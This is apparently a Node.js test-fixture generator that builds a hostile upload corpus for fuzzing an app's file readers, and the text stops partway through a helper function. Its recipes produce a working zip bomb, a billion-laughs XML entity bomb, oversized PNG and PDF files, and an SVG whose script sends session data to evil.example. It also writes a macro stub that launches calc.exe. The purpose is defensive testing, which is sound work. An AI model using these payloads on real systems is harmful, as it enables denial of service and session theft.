#!/usr/bin/env node
/**
 * The hostile-file corpus (tests/e2e/hostile-uploads.spec.ts, `npm run fuzz`): files built to
 * exhaust a reader's memory or CPU, files in the wrong format or encoding, and a few valid
 * controls. Written into tests/fixtures/hostile/ (gitignored; regenerated when a file is missing
 * or the recipe version changed). Plain Node, no dependency but sharp for the JPEG (a dependency
 * of the app already); the zip files come from the small zip writer below, with node:zlib.
 *
 *   node scripts/hostile-corpus.mjs          writes what is missing and lists the corpus
 *   node scripts/hostile-corpus.mjs --force  writes everything again
 *
 * `hostileCorpus()` answers the list: { name, file, description, kind, type, category, purpose? }.
 * - kind: 'hostile' (must be refused everywhere, or where `mayAccept` says so, accepted: never a
 *   5xx, never a memory or CPU blow-up), 'encoding' (valid content in another encoding: read
 *   correctly or refused with a clear message, never misread), 'control' (a valid file).
 * - category: what the file claims to be ('table', 'image', 'pdf', 'other'); `mayAccept`: the
 *   endpoint categories that may accept it ('table' readers, 'image' uploads, 'pdf' uploads).
 * - type: the Content-Type a client would send with it.
 *
 * The zip bomb is written streaming (a 1 MiB piece of shared strings deflated once, written
 * 1,100 times, each piece ends with a sync flush so that the pieces chain into one deflate
 * stream): the generator never holds more than a few MB.
 */
import crypto from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import zlib from 'node:zlib';

// No import.meta and no top-level await here: the Playwright specs load this module through
// their own transform (which turns import.meta into a CommonJS module Node then refuses). The
// default folder is relative to the working directory, the project root for npm scripts and
// Playwright; the callers pass their own.
export const HOSTILE_DIR = path.resolve('tests', 'fixtures', 'hostile');
/** Bumped whenever a recipe changes: the files of another version are written again. */
const RECIPE_VERSION = '5';

// ---------------------------------------------------------------------------------------------
// CRC-32 (node:zlib has one from Node 20.15 / 22.2; a table otherwise).

const CRC_TABLE = (() => {
  const t = new Uint32Array(256);
  for (let n = 0; n < 256; n++) {
    let c = n;
    for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
    t[n] = c >>> 0;
  }
  return t;
})();

function crc32(data, previous = 0) {
  if (typeof zlib.crc32 === 'function') return zlib.crc32(data, previous);
  let c = (previous ^ 0xffffffff) >>> 0;
  for (let i = 0; i < data.length; i++) c = CRC_TABLE[(c ^ data[i]) & 0xff] ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
}

// ---------------------------------------------------------------------------------------------
// A small zip writer: stored or deflated entries, written to a file as they come (no zip64:
// every entry and the archive stay under 4 GiB).

class ZipWriter {
  constructor(file) {
    this.fd = fs.openSync(file, 'w');
    this.offset = 0;
    this.entries = [];
  }

  write(buffer) {
    fs.writeSync(this.fd, buffer);
    this.offset += buffer.length;
  }

  /** One entry from its bytes (deflated unless `store`). */
  add(name, data, { store = false } = {}) {
    const raw = Buffer.isBuffer(data) ? data : Buffer.from(data, 'utf8');
    const packed = store ? raw : zlib.deflateRawSync(raw, { level: 9 });
    this.addPieces(name, { crc: crc32(raw), size: raw.length, packedSize: packed.length, method: store ? 0 : 8, pieces: [packed] });
  }

  /** One entry whose compressed bytes come in `pieces` (any iterable of Buffers), sizes and CRC known. */
  addPieces(name, { crc, size, packedSize, method, pieces }) {
    const nameBytes = Buffer.from(name, 'utf8');
    const header = Buffer.alloc(30);
    header.writeUInt32LE(0x04034b50, 0);
    header.writeUInt16LE(20, 4); // version needed
    header.writeUInt16LE(0x0800, 6); // UTF-8 names
    header.writeUInt16LE(method, 8);
    header.writeUInt16LE(0, 10); // 00:00:00
    header.writeUInt16LE(0x5a21, 12); // 2025-01-01
    header.writeUInt32LE(crc >>> 0, 14);
    header.writeUInt32LE(packedSize, 18);
    header.writeUInt32LE(size, 22);
    header.writeUInt16LE(nameBytes.length, 26);
    header.writeUInt16LE(0, 28);
    const offset = this.offset;
    this.write(header);
    this.write(nameBytes);
    let written = 0;
    for (const piece of pieces) {
      this.write(piece);
      written += piece.length;
    }
    if (written !== packedSize) throw new Error(`zip: ${name}: ${written} bytes written, ${packedSize} announced`);
    this.entries.push({ nameBytes, crc, size, packedSize, method, offset });
  }

  close() {
    const start = this.offset;
    for (const e of this.entries) {
      const c = Buffer.alloc(46);
      c.writeUInt32LE(0x02014b50, 0);
      c.writeUInt16LE(20, 4);
      c.writeUInt16LE(20, 6);
      c.writeUInt16LE(0x0800, 8);
      c.writeUInt16LE(e.method, 10);
      c.writeUInt16LE(0, 12);
      c.writeUInt16LE(0x5a21, 14);
      c.writeUInt32LE(e.crc >>> 0, 16);
      c.writeUInt32LE(e.packedSize, 20);
      c.writeUInt32LE(e.size, 24);
      c.writeUInt16LE(e.nameBytes.length, 28);
      c.writeUInt32LE(e.offset, 42);
      this.write(c);
      this.write(e.nameBytes);
    }
    const end = Buffer.alloc(22);
    end.writeUInt32LE(0x06054b50, 0);
    end.writeUInt16LE(this.entries.length, 8);
    end.writeUInt16LE(this.entries.length, 10);
    end.writeUInt32LE(this.offset - start, 12);
    end.writeUInt32LE(start, 16);
    this.write(end);
    fs.closeSync(this.fd);
  }
}

// ---------------------------------------------------------------------------------------------
// XLSX parts.

const MAIN_NS = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const XML_HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';

function contentTypes({ macros = false } = {}) {
  const workbookType = macros ? 'application/vnd.ms-excel.sheet.macroEnabled.main+xml' : 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml';
  return `${XML_HEAD}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Default Extension="xml" ContentType="application/xml"/>${macros ? '\n<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>' : ''}
<Override PartName="/xl/workbook.xml" ContentType="${workbookType}"/>
<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>
<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>
</Types>`;
}

const ROOT_RELS = `${XML_HEAD}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`;
const WORKBOOK = `${XML_HEAD}<workbook xmlns="${MAIN_NS}" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Folha1" sheetId="1" r:id="rId1"/></sheets></workbook>`;

function workbookRels({ macros = false } = {}) {
  return `${XML_HEAD}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>${
    macros ? '<Relationship Id="rId3" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>' : ''
  }</Relationships>`;
}

const escapeXml = (s) => String(s).replace(/[<>&"]/g, (c) => ({ '<': '&lt;', '>': '&gt;', '&': '&amp;', '"': '&quot;' })[c]);

/** A1-style column letters of a 1-based column number (16384 → XFD). */
export function columnName(n) {
  let s = '';
  for (let x = n; x > 0; x = Math.floor((x - 1) / 26)) s = String.fromCharCode(65 + ((x - 1) % 26)) + s;
  return s;
}

/** A cell: numbers as numbers, anything else as an inline string. */
function cell(ref, value) {
  return typeof value === 'number' ? `<c r="${ref}"><v>${value}</v></c>` : `<c r="${ref}" t="inlineStr"><is><t>${escapeXml(value)}</t></is></c>`;
}

function row(n, values) {
  return `<row r="${n}">${values.map((v, i) => (v === undefined ? '' : cell(`${columnName(i + 1)}${n}`, v))).join('')}</row>`;
}

function sheetXml(rowsXml, { doctype = '' } = {}) {
  return `${XML_HEAD}${doctype}<worksheet xmlns="${MAIN_NS}"><sheetData>${rowsXml}</sheetData></worksheet>`;
}

const EMPTY_SST = `${XML_HEAD}<sst xmlns="${MAIN_NS}" count="0" uniqueCount="0"></sst>`;

/** A workbook of one sheet: the parts in the order Excel writes them (shared strings before the sheet when `sstFirst`). */
function writeXlsx(file, { sheet, sharedStrings = EMPTY_SST, macros = false, sstFirst = false }) {
  const zip = new ZipWriter(file);
  zip.add('[Content_Types].xml', contentTypes({ macros }));
  zip.add('_rels/.rels', ROOT_RELS);
  zip.add('xl/workbook.xml', WORKBOOK);
  zip.add('xl/_rels/workbook.xml.rels', workbookRels({ macros }));
  const addSst = () => (typeof sharedStrings === 'function' ? sharedStrings(zip) : zip.add('xl/sharedStrings.xml', sharedStrings));
  if (sstFirst) addSst();
  zip.add('xl/worksheets/sheet1.xml', sheet);
  if (!sstFirst) addSst();
  if (macros) zip.add('xl/vbaProject.bin', vbaProjectBytes(), { store: true });
  zip.close();
}

/** An OLE2 compound-file header and padding: the signature of a vbaProject.bin (no real VBA code). */
function vbaProjectBytes() {
  const b = Buffer.alloc(4096);
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(b, 0);
  b.writeUInt16LE(0x003e, 24); // minor version
  b.writeUInt16LE(0x0003, 26); // major version 3
  b.writeUInt16LE(0xfffe, 28); // byte order
  b.writeUInt16LE(9, 30); // sector shift
  Buffer.from('Attribute VB_Name = "ThisWorkbook"\r\nSub Workbook_Open()\r\nShell "calc.exe"\r\nEnd Sub\r\n', 'latin1').copy(b, 512);
  return b;
}

/** The quick-order table every spreadsheet here starts with: a header, then code and quantity. */
const QUICK_HEADER = ['codigo', 'quantidade'];

// ---------------------------------------------------------------------------------------------
// The zip bomb: shared strings of `targetBytes` (over 1 GiB) in a 1 MB file.

function writeZipBomb(file, targetBytes = 1100 * 1024 * 1024) {
  // Long strings (Excel's cell limit is 32,767 characters): runs of one letter deflate at ~1,000:1.
  const unit = `<si><t>${'A'.repeat(32_000)}</t></si>`;
  const chunk = Buffer.from(unit.repeat(Math.floor((1024 * 1024) / unit.length)), 'utf8');
  const repeats = Math.ceil(targetBytes / chunk.length);
  const head = Buffer.from(`${XML_HEAD}<sst xmlns="${MAIN_NS}" count="${repeats * (chunk.length / unit.length) + 2}" uniqueCount="${repeats * (chunk.length / unit.length) + 2}"><si><t>codigo</t></si><si><t>quantidade</t></si>`, 'utf8');
  const tail = Buffer.from('</sst>', 'utf8');
  const flush = { level: 9, finishFlush: zlib.constants.Z_SYNC_FLUSH };
  const headPacked = zlib.deflateRawSync(head, flush);
  const chunkPacked = zlib.deflateRawSync(chunk, flush);
  const tailPacked = zlib.deflateRawSync(tail, flush);
  const final = zlib.deflateRawSync(Buffer.alloc(0)); // the last, empty block
  let crc = crc32(head);
  for (let i = 0; i < repeats; i++) crc = crc32(chunk, crc);
  crc = crc32(tail, crc);
  const size = head.length + repeats * chunk.length + tail.length;
  const packedSize = headPacked.length + repeats * chunkPacked.length + tailPacked.length + final.length;
  function* pieces() {
    yield headPacked;
    for (let i = 0; i < repeats; i++) yield chunkPacked;
    yield tailPacked;
    yield final;
  }
  const sheet = sheetXml(`<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row><row r="2"><c r="A2" t="s"><v>2</v></c><c r="B2"><v>1</v></c></row>`);
  writeXlsx(file, { sheet, sstFirst: true, sharedStrings: (zip) => zip.addPieces('xl/sharedStrings.xml', { crc, size, packedSize, method: 8, pieces: pieces() }) });
  return size;
}

// ---------------------------------------------------------------------------------------------
// PDF: objects written with their offsets, an xref table and a trailer.

function writePdf(file, objects) {
  const parts = [];
  let length = 0;
  const push = (s) => {
    const b = Buffer.from(s, 'latin1');
    parts.push(b);
    length += b.length;
  };
  push('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n');
  const offsets = [];
  objects.forEach((body, i) => {
    offsets.push(length);
    push(`${i + 1} 0 obj\n${body}\nendobj\n`);
  });
  const xref = length;
  push(`xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`);
  for (const o of offsets) push(`${String(o).padStart(10, '0')} 00000 n \n`);
  push(`trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`);
  fs.writeFileSync(file, Buffer.concat(parts));
}

function stream(content) {
  return `<< /Length ${Buffer.byteLength(content, 'latin1')} >>\nstream\n${content}\nendstream`;
}

/** A PDF of pages given as [mediaBox, extra page dictionary entries]; one shared content stream and font. */
function pagesPdf(file, pages, text = 'Catalogo de teste', image = null) {
  // 1 catalog, 2 root pages, 3 content, 4 font, 5 an image when given; then the intermediate nodes and the pages.
  const draw = image ? 'q 500 0 0 500 48 200 cm /Im1 Do Q\n' : '';
  const objects = ['<< /Type /Catalog /Pages 2 0 R >>', '', stream(`${draw}BT /F1 24 Tf 72 72 Td (${text}) Tj ET\n0.2 0.4 0.8 rg 36 36 200 20 re f`), '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'];
  if (image) objects.push(image);
  const PER_NODE = 100;
  const nodes = [];
  for (let start = 0; start < pages.length; start += PER_NODE) nodes.push(pages.slice(start, start + PER_NODE));
  const nodeIds = [];
  const firstNode = objects.length + 1;
  const firstPage = firstNode + nodes.length;
  let pageId = firstPage;
  nodes.forEach((group, n) => {
    const kids = group.map((_, k) => `${pageId + k} 0 R`).join(' ');
    nodeIds.push(firstNode + n);
    objects.push(`<< /Type /Pages /Parent 2 0 R /Kids [${kids}] /Count ${group.length} >>`);
    pageId += group.length;
  });
  nodes.forEach((group, n) => {
    for (const [box, extra = ''] of group) {
      const resources = extra.includes('/Resources') ? '' : '/Resources << /Font << /F1 4 0 R >> >>';
      objects.push(`<< /Type /Page /Parent ${nodeIds[n]} 0 R /MediaBox [0 0 ${box[0]} ${box[1]}] ${extra} /Contents 3 0 R ${resources} >>`);
    }
  });
  objects[1] = `<< /Type /Pages /Kids [${nodeIds.map((id) => `${id} 0 R`).join(' ')}] /Count ${pages.length} >>`;
  writePdf(file, objects);
}

// ---------------------------------------------------------------------------------------------
// PNG.

function pngChunk(type, data) {
  const len = Buffer.alloc(4);
  len.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body) >>> 0);
  return Buffer.concat([len, body, crc]);
}

/** An 8-bit RGB PNG of `width × height` whose IDAT holds `rows` (filter byte + pixels each). */
function pngBytes(width, height, rowsData) {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 2; // RGB
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), pngChunk('IHDR', ihdr), pngChunk('IDAT', zlib.deflateSync(rowsData, { level: 9 })), pngChunk('IEND', Buffer.alloc(0))]);
}

function gradientPng(size) {
  const rowBytes = 1 + size * 3;
  const data = Buffer.alloc(rowBytes * size);
  for (let y = 0; y < size; y++) {
    for (let x = 0; x < size; x++) {
      const at = y * rowBytes + 1 + x * 3;
      data[at] = 20 + x * 3;
      data[at + 1] = 80 + y * 2;
      data[at + 2] = 200;
    }
  }
  return pngBytes(size, size, data);
}

// ---------------------------------------------------------------------------------------------
// Big plain files, written in pieces.

function writeRepeated(file, head, piece, times, tail = '') {
  const fd = fs.openSync(file, 'w');
  try {
    fs.writeSync(fd, Buffer.from(head));
    const b = Buffer.isBuffer(piece) ? piece : Buffer.from(piece);
    for (let i = 0; i < times; i++) fs.writeSync(fd, b);
    fs.writeSync(fd, Buffer.from(tail));
  } finally {
    fs.closeSync(fd);
  }
}

function writeRandom(file, bytes) {
  const fd = fs.openSync(file, 'w');
  try {
    // Deterministic bytes (AES-CTR of zeros under a fixed key): the same file on every machine.
    const cipher = crypto.createCipheriv('aes-128-ctr', Buffer.alloc(16, 7), Buffer.alloc(16, 0));
    const zeros = Buffer.alloc(1024 * 1024);
    for (let done = 0; done < bytes; done += zeros.length) fs.writeSync(fd, cipher.update(zeros.subarray(0, Math.min(zeros.length, bytes - done))));
  } finally {
    fs.closeSync(fd);
  }
}

// ---------------------------------------------------------------------------------------------
// The corpus.

/** A model of the embedded demo catalogue (scripts/seed), sold by the unit. */
const DEMO_MODEL = 'CRX-63120';
/**
 * Quick-order lines with accents: the header is skipped and the demo model added when read
 * right; the unknown code of the third line comes back as a problem, as it was written.
 */
const QUICK_TEXT = `Código;Quantidade\r\n${DEMO_MODEL};1\r\nTORNEIRA-ÁGUA-AÇÃO;2\r\n`;
/**
 * One row of the demo catalogue (as GET /api/admin/catalogue exports it) with its product renamed
 * with accents and guillemets: a correct read previews one product update under that name.
 */
const CATALOGUE_TEXT =
  'chapter_code;family_code;family_title;product_id;product_name;description;brand;model_code;model_name;size;price;discount_group;ean;stock_status;small_package;medium_package;large_package;image;attributes\r\n' +
  `10;10-010;Louça Sanitária;P100132;Sanita suspensa rimless série Óbidos «Ação»;Sanita em porcelana vitrificada com acabamento brilhante, fornecida com tampa e kit de fixação. Garantia de 10 anos na louça cerâmica.;Ceralux;${DEMO_MODEL};Sanita suspensa rimless série Óbidos com tampa slim soft-close branca;;305,25;C1;;in_stock;-;-;-;;Cor=Branco|Instalação=Suspensa\r\n`;

/** Every file: `write(file)` makes it (sync or async). */
const RECIPES = [
  // --- spreadsheets
  {
    name: 'zip-bomb.xlsx',
    kind: 'hostile',
    category: 'table',
    type: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    description: 'XLSX válido cujo xl/sharedStrings.xml (1,1 GiB de <si><t>AAA…</t></si>) cabe em ~1,2 MB comprimido (bomba de descompressão)',
    write: (file) => writeZipBomb(file),
  },
  {
    name: 'row-200000000.xlsx',
    kind: 'hostile',
    category: 'table',
    type: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    description: 'XLSX com o cabeçalho e uma única linha <row r="200000000"> (o ficheiro de 1,5 KB que hoje derruba o processo)',
    write: (file) => writeXlsx(file, { sheet: sheetXml(`${row(1, QUICK_HEADER)}<row r="200000000">${cell('A200000000', DEMO_MODEL)}${cell('B200000000', 1)}</row>`) }),
  },
  {
    name: 'wide-xfd.xlsx',
    kind: 'hostile',
    category: 'table',
    type: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    description: 'XLSX com 16 384 colunas: uma célula em XFD1 e 20 linhas com as 16 384 células preenchidas (327 680 células)',
    write: (file) => {
      const wide = (n) => {
        let s = `<row r="${n}" spans="1:16384">`;
        for (let c = 1; c <= 16384; c++) s += `<c r="${columnName(c)}${n}"><v>${c}</v></c>`;
        return `${s}</row>`;
      };
      const first = `<row r="1">${cell('A1', 'codigo')}${cell('B1', 'quantidade')}${cell('XFD1', 'fim')}</row>`;
      writeXlsx(file, { sheet: sheetXml(first + Array.from({ length: 20 }, (_, i) => wide(i + 2)).join('')) });
    },
  },
  {
    name: 'deep-nesting.xlsx',
    kind: 'hostile',
    category: 'table',
    // A flat scanner keeps no stack: reading it is bounded, and its one row may be taken (docs/uploads.md).
    mayAccept: ['table'],
    type: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    description: 'XLSX cuja folha tem 100 000 elementos encaixados (<r><r>… numa célula de texto)',
    write: (file) => {
      const depth = 100_000;
      const nested = `<row r="2"><c r="A2" t="inlineStr"><is>${'<r>'.repeat(depth)}<t>${DEMO_MODEL}</t>${'</r>'.repeat(depth)}</is></c>${cell('B2', 1)}</row>`;
      writeXlsx(file, { sheet: sheetXml(row(1, QUICK_HEADER) + nested) });
    },
  },
  {
    name: 'billion-laughs.xlsx',
    kind: 'hostile',
    category: 'table',
    type: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    description: 'XLSX com DOCTYPE de entidades encadeadas («billion laughs», 10^9 «lol») em sharedStrings.xml e na folha',
    write: (file) => {
      const entities = ['<!ENTITY lol "lol">'];
      for (let i = 1; i <= 9; i++) entities.push(`<!ENTITY lol${i} "${`&lol${i === 1 ? '' : i - 1};`.repeat(10)}">`);
      const doctype = (rootName) => `<!DOCTYPE ${rootName} [\n${entities.join('\n')}\n]>\n`;
      const sst = `${XML_HEAD}${doctype('sst')}<sst xmlns="${MAIN_NS}" count="3" uniqueCount="3"><si><t>codigo</t></si><si><t>quantidade</t></si><si><t>&lol9;</t></si></sst>`;
      const sheet = sheetXml(`<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row><row r="2"><c r="A2" t="s"><v>2</v></c><c r="B2"><v>1</v></c></row><row r="3"><c r="A3" t="inlineStr"><is><t>&lol9;</t></is></c><c r="B3"><v>1</v></c></row>`, { doctype: doctype('worksheet') });
      writeXlsx(file, { sheet, sharedStrings: sst, sstFirst: true });
    },
  },
  {
    name: 'truncated.xlsx',
    kind: 'hostile',
    category: 'table',
    type: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    description: 'XLSX válido de 2 000 linhas cortado a meio (sem diretório central, última entrada incompleta)',
    write: (file) => {
      const rows = [row(1, QUICK_HEADER)];
      for (let n = 2; n <= 2001; n++) rows.push(row(n, [`COD-${crypto.createHash('md5').update(String(n)).digest('hex').slice(0, 10)}`, n % 7 + 1]));
      const whole = `${file}.whole`;
      writeXlsx(whole, { sheet: sheetXml(rows.join('')) });
      const bytes = fs.readFileSync(whole);
      fs.rmSync(whole);
      fs.writeFileSync(file, bytes.subarray(0, Math.floor(bytes.length / 2)));
    },
  },
  {
    name: 'macros.xlsx',
    kind: 'hostile',
    category: 'table',
    type: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    description: 'Um .xlsm com o nome .xlsx: tipo de conteúdo macroEnabled e xl/vbaProject.bin (cabeçalho OLE2 e uma macro Workbook_Open)',
    write: (file) => writeXlsx(file, { sheet: sheetXml(row(1, QUICK_HEADER) + row(2, [DEMO_MODEL, 1])), macros: true }),
  },
  // --- CSV
  {
    name: 'long-line.csv',
    kind: 'hostile',
    category: 'table',
    type: 'text/csv',
    description: 'CSV com uma linha de 10 000 000 caracteres',
    write: (file) => writeRepeated(file, 'codigo;quantidade\n', 'A'.repeat(100_000), 100, ';1\n'),
  },
  {
    name: 'empty-lines.csv',
    kind: 'hostile',
    category: 'table',
    type: 'text/csv',
    description: 'CSV com o cabeçalho, 1 000 000 de linhas vazias e uma linha no fim',
    write: (file) => writeRepeated(file, 'codigo;quantidade\n', '\n'.repeat(100_000), 10, `${DEMO_MODEL};1\n`),
  },
  {
    name: 'quick-order-utf16le.csv',
    kind: 'encoding',
    category: 'table',
    purpose: 'quick-order',
    type: 'text/csv',
    expectText: 'TORNEIRA-ÁGUA-AÇÃO',
    description: 'Encomenda rápida válida em UTF-16LE com BOM (acentos no cabeçalho e no código): lida corretamente ou recusada com mensagem clara',
    write: (file) => fs.writeFileSync(file, Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(QUICK_TEXT, 'utf16le')])),
  },
  {
    name: 'quick-order-latin1.csv',
    kind: 'encoding',
    category: 'table',
    purpose: 'quick-order',
    type: 'text/csv',
    expectText: 'TORNEIRA-ÁGUA-AÇÃO',
    description: 'Encomenda rápida válida em Latin-1 (ISO-8859-1, sem BOM): lida corretamente ou recusada com mensagem clara',
    write: (file) => fs.writeFileSync(file, Buffer.from(QUICK_TEXT, 'latin1')),
  },
  {
    name: 'catalogue-utf16le.csv',
    kind: 'encoding',
    category: 'table',
    purpose: 'catalogue',
    type: 'text/csv',
    expectText: 'Sanita suspensa rimless série Óbidos «Ação»',
    description: 'Linha de catálogo válida (colunas do ERP, acentos nos nomes) em UTF-16LE com BOM',
    write: (file) => fs.writeFileSync(file, Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(CATALOGUE_TEXT, 'utf16le')])),
  },
  {
    name: 'catalogue-latin1.csv',
    kind: 'encoding',
    category: 'table',
    purpose: 'catalogue',
    type: 'text/csv',
    expectText: 'Sanita suspensa rimless série Óbidos «Ação»',
    description: 'Linha de catálogo válida (colunas do ERP, acentos nos nomes) em Latin-1 (ISO-8859-1)',
    write: (file) => fs.writeFileSync(file, Buffer.from(CATALOGUE_TEXT, 'latin1')),
  },
  // --- PDF
  {
    name: 'pages-10000.pdf',
    kind: 'hostile',
    category: 'pdf',
    mayAccept: ['pdf'],
    type: 'application/pdf',
    description: 'PDF de 10 000 páginas A4 (árvore de páginas equilibrada, um só conteúdo partilhado)',
    write: (file) => pagesPdf(file, Array.from({ length: 10_000 }, () => [[595, 842]])),
  },
  {
    name: 'giant-page.pdf',
    kind: 'hostile',
    category: 'pdf',
    mayAccept: ['pdf'],
    type: 'application/pdf',
    description: 'PDF cuja 1.ª página tem MediaBox 200 000 × 200 000 pt (2,8 km de lado; a 72 ppp, 4×10^10 píxeis) e a 2.ª 14 400 × 14 400 pt',
    write: (file) => pagesPdf(file, [[[200_000, 200_000]], [[14_400, 14_400]]]),
  },
  {
    name: 'userunit.pdf',
    kind: 'hostile',
    category: 'pdf',
    mayAccept: ['pdf'],
    type: 'application/pdf',
    description: 'PDF cuja 1.ª página tem MediaBox 14 400 × 14 400 pt e /UserUnit 75 000 (1 080 000 000 pt de lado)',
    write: (file) => pagesPdf(file, [[[14_400, 14_400], '/UserUnit 75000']]),
  },
  // --- images
  {
    name: 'png-50000x50000.png',
    kind: 'hostile',
    category: 'image',
    type: 'image/png',
    description: 'PNG de 10 KB cujo IHDR diz 50 000 × 50 000 RGB (7,5 GB descodificado); o IDAT tem 64 linhas de zeros comprimidas',
    write: (file) => fs.writeFileSync(file, pngBytes(50_000, 50_000, Buffer.alloc((1 + 50_000 * 3) * 64))),
  },
  {
    name: 'jpeg-named.png',
    kind: 'hostile',
    category: 'image',
    mayAccept: ['image'],
    type: 'image/png',
    description: 'Um JPEG válido (64 × 64) com o nome .png e o tipo image/png: o tipo vem do conteúdo, nunca do nome',
    write: async (file) => fs.writeFileSync(file, await jpegBytes()),
  },
  {
    name: 'script.svg',
    kind: 'hostile',
    category: 'image',
    type: 'image/svg+xml',
    description: 'SVG com <script> e onload (XSS se fosse servido tal como veio)',
    write: (file) =>
      fs.writeFileSync(
        file,
        '<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64" onload="alert(document.cookie)"><script>fetch("/api/session").then(r=>r.text()).then(t=>navigator.sendBeacon("https://evil.example/",t))</script><rect width="64" height="64" fill="#c00"/></svg>\n',
      ),
  },
  // --- anything
  {
    name: 'empty.csv',
    kind: 'hostile',
    category: 'other',
    type: 'text/csv',
    description: 'Ficheiro de 0 bytes',
    write: (file) => fs.writeFileSync(file, Buffer.alloc(0)),
  },
  {
    name: 'big-60mb.bin',
    kind: 'hostile',
    category: 'other',
    type: 'application/octet-stream',
    description: 'Ficheiro de 60 MB de bytes pseudo-aleatórios (acima de todos os limites de envio)',
    write: (file) => writeRandom(file, 60 * 1024 * 1024),
  },
  // --- controls
  {
    name: 'control.csv',
    kind: 'control',
    category: 'table',
    type: 'text/csv',
    description: 'Controlo: CSV de encomenda rápida pequeno e válido (UTF-8)',
    write: (file) => fs.writeFileSync(file, `codigo;quantidade\n${DEMO_MODEL};1\n`),
  },
  {
    name: 'control.xlsx',
    kind: 'control',
    category: 'table',
    type: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    description: 'Controlo: XLSX de encomenda rápida pequeno e válido',
    write: (file) => writeXlsx(file, { sheet: sheetXml(row(1, QUICK_HEADER) + row(2, [DEMO_MODEL, 1])) }),
  },
  {
    name: 'control.png',
    kind: 'control',
    category: 'image',
    type: 'image/png',
    description: 'Controlo: PNG 64 × 64 válido',
    write: (file) => fs.writeFileSync(file, gradientPng(64)),
  },
  {
    name: 'control.pdf',
    kind: 'control',
    category: 'pdf',
    type: 'application/pdf',
    description: 'Controlo: PDF A4 de uma página',
    write: (file) => pagesPdf(file, [[[595, 842]]]),
  },
  {
    name: 'control-catalogue-20mb.csv',
    kind: 'control',
    category: 'table',
    purpose: 'catalogue',
    type: 'text/csv',
    description: 'Controlo: catálogo válido de 20 MB (UTF-8; 2 200 modelos novos de um produto da demonstração, descrição de 9 000 caracteres), abaixo do limite de 30 MB da importação',
    write: (file) => {
      const header = CATALOGUE_TEXT.split('\r\n')[0];
      const description = 'Louça sanitária em porcelana vitrificada — acabamento brilhante, instalação suspensa. '.repeat(120).slice(0, 9_000); // the catalogue's limit is 10,000
      const rows = Array.from({ length: 2_200 }, (_, i) => {
        const code = `HOSTIL-${String(i + 1).padStart(5, '0')}`;
        return `10;10-010;Louça Sanitária;P100132;Sanita suspensa rimless série Óbidos;${description};Ceralux;${code};Sanita série Óbidos variante ${i + 1};;305,25;C1;;in_stock;-;-;-;;Cor=Branco`;
      });
      fs.writeFileSync(file, `${header}\r\n${rows.join('\r\n')}\r\n`);
    },
  },
  {
    name: 'control-20mb.pdf',
    kind: 'control',
    category: 'pdf',
    type: 'application/pdf',
    description: 'Controlo: PDF A4 válido de 20 MB (uma página com uma imagem de 20 MB de bytes aleatórios), abaixo do limite de 50 MB dos PDF',
    write: (file) => pagesPdf(file, [[[595, 842], '/Resources << /Font << /F1 4 0 R >> /XObject << /Im1 5 0 R >> >>']], 'Catalogo de teste', randomImageObject(20 * 1024 * 1024)),
  },
];

/** An image XObject of `bytes` random bytes (DeviceGray, 8 bits): a big page that renders. */
function randomImageObject(bytes) {
  const side = Math.floor(Math.sqrt(bytes));
  const cipher = crypto.createCipheriv('aes-128-ctr', Buffer.alloc(16, 9), Buffer.alloc(16, 0));
  const data = cipher.update(Buffer.alloc(side * side));
